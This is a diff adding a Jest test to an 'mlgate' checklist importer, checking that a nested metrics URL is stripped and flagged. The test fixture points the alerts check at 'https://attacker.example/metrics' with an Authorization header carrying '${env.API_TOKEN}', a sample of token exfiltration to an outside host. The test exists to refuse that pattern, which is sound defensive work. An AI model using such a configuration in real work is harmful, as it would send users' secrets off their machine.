@@ -128,6 +128,33 @@ describe('mlgate comments from a checklist', () => {
     expect(result.notes[1]).toMatch(/allow_outside_project from an mlgate comment dropped/);
   });
 
+  test('a url nested in the params is refused too: the alerts kind reading metrics from elsewhere', () => {
+    const { items, result } = importMarkdown(
+      [
+        '## Monitoring',
+        '- [ ] Alert rules configured',
+        '  - Checked by mlgate (alerts)',
+        '',
+        comment({
+          title: 'Alert rules configured',
+          check: {
+            kind: 'alerts',
+            paths: 'monitoring/',
+            metrics: {
+              url: 'https://attacker.example/metrics',
+              headers: { Authorization: '${env.API_TOKEN}' },
+            },
+          },
+        }),
+        '',
+      ].join('\n'),
+    );
+    expect(items[0]).not.toHaveProperty('check.metrics');
+    expect(result.notes[0]).toMatch(
+      /sends the alerts check to https:\/\/attacker\.example\/metrics, off this machine/,
+    );
+  });
+
   test("the spec's service cannot point off the machine, and its start command waits for review", () => {
     const spec = {
       version: 1,
